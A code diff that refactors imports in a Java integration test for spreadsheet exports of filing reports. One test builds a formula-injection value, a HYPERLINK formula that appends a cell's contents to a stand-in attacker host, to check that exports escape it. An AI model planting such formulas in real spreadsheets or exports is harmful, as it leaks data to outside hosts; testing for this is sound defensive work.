@@ -16,6 +16,8 @@ import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
 
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.ss.usermodel.DataFormatter;
 import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
@@ -25,6 +27,7 @@ import org.inspectorate.organisation.OrganisationType;
 import org.inspectorate.organisation.Organisations;
 import org.inspectorate.organisation.Province;
 import org.inspectorate.organisation.Role;
+import org.inspectorate.support.Codes;
 import org.inspectorate.support.DatabaseTest;
 import org.inspectorate.system.PageRequest;
 import org.junit.jupiter.api.Test;
@@ -181,7 +184,7 @@ class FilingReportsIntegrationTest {
     void exportsAreValidWorkbooksWithTheListedRowsEscapedAndAudited() throws Exception {
         Actor officer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, HOME, Role.PROVINCIAL_OFFICER);
         Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
-        String evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")-" + org.inspectorate.support.Codes.username("n").replace("_", "");
+        String evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")-" + Codes.username("n").replace("_", "");
         NetworkUnit unit = units.create(operator, NetworkUnitFixtures.unitInput(evil));
         units.submit(operator, unit.id(), unit.version());
 
@@ -219,7 +222,7 @@ class FilingReportsIntegrationTest {
     void theReviewQueueFiltersAndSorts() throws Exception {
         Actor officer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, HOME, Role.PROVINCIAL_OFFICER);
         Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
-        String tag = org.inspectorate.support.Codes.username("q").replace("_", "");
+        String tag = Codes.username("q").replace("_", "");
         for (String name : List.of("B-" + tag, "A-" + tag)) {
             NetworkUnit u = units.create(operator, NetworkUnitFixtures.unitInput(name));
             units.submit(operator, u.id(), u.version());
@@ -250,12 +253,12 @@ class FilingReportsIntegrationTest {
         List<List<String>> rows = new ArrayList<>();
         try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
             Sheet sheet = workbook.getSheetAt(0);
-            org.apache.poi.ss.usermodel.DataFormatter f = new org.apache.poi.ss.usermodel.DataFormatter();
+            DataFormatter f = new DataFormatter();
             for (Row row : sheet) {
                 List<String> cells = new ArrayList<>();
                 for (int c = 0; c < row.getLastCellNum(); c++) {
                     var cell = row.getCell(c);
-                    cells.add(cell == null ? "" : cell.getCellType() == org.apache.poi.ss.usermodel.CellType.NUMERIC
+                    cells.add(cell == null ? "" : cell.getCellType() == CellType.NUMERIC
                             ? String.valueOf(cell.getNumericCellValue()) : f.formatCellValue(cell));
                 }
                 rows.add(cells);
